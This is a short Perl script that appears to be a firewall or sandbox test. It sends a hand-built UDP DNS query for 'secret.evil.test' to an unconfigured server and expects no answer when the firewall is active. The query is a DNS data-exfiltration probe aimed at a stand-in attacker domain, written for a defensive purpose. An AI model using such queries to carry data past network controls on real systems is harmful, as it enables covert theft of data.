#!/usr/bin/perl
# tries: DNS at a server that the configuration does not name, to carry data out
# as: job
# wall: firewall
# expect: no answer
# without: firewall

use strict; use IO::Socket::INET; use IO::Select;
my $socket = IO::Socket::INET->new(Proto => 'udp', PeerAddr => $ENV{INTERNET}, PeerPort => 53) or die $!;
$socket->send("\x12\x34\x01\0\0\1\0\0\0\0\0\0\x06secret\x04evil\x04test\0\0\1\0\1") or die $!;
if (IO::Select->new($socket)->can_read(1)) {
    $socket->recv(my $answer, 512) // die $!;
    die "not an answer" unless substr($answer, 0, 2) eq "\x12\x34";
    print "got an answer of ", length $answer, " bytes\n";
    exit 0;
}
print "no answer\n";
exit 1;
